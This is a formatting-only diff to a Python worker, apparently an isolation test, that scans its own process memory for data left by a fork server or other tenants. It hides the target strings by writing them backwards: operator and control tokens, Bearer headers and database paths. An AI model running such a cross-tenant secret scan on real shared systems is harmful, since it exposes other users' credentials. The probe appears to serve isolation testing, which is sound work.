@@ -1,4 +1,5 @@
-"""Walk all of its memory, page by page, and every object there is, for what the fork server or another tenant left in it.
+"""Walk all of its memory, page by page, and every object there is, for what the fork server or another tenant left in
+it.
 
 Line: host file and /proc reads
 End: complete []
@@ -11,15 +12,29 @@ from workers import WorkflowEntrypoint
 
 PAGE = 4096
 FAULT = 14
-# Written backwards, so that they stand nowhere but where they are looked for: an innocent's source, settings, addresses of the server.
-SOUGHT = [word[::-1] for word in ("tneve ,olleH", "_DNUORGYALP", "nekot_rotarepo", "nekot_lortnoc", "bd.dnuorgyalp", "kcab//:etilqs", ":reraeB")]
+# Written backwards, so that they stand nowhere but where they are looked for: an innocent's source, settings, addresses
+# of the server.
+SOUGHT = [
+    word[::-1]
+    for word in (
+        "tneve ,olleH",
+        "_DNUORGYALP",
+        "nekot_rotarepo",
+        "nekot_lortnoc",
+        "bd.dnuorgyalp",
+        "kcab//:etilqs",
+        ":reraeB",
+    )
+]
 
 
 class TenantWorkflow(WorkflowEntrypoint):
     async def run(self, event, step):
         libc = ctypes.CDLL(None, use_errno=True)
         words = [word.encode() for word in SOUGHT]
-        own = {id(held) + bytes.__basicsize__ - 1 for held in words} | {id(held) + str.__basicsize__ - 25 for held in SOUGHT}
+        own = {id(held) + bytes.__basicsize__ - 1 for held in words} | {
+            id(held) + str.__basicsize__ - 25 for held in SOUGHT
+        }
         found = set()
 
         def readable(page):
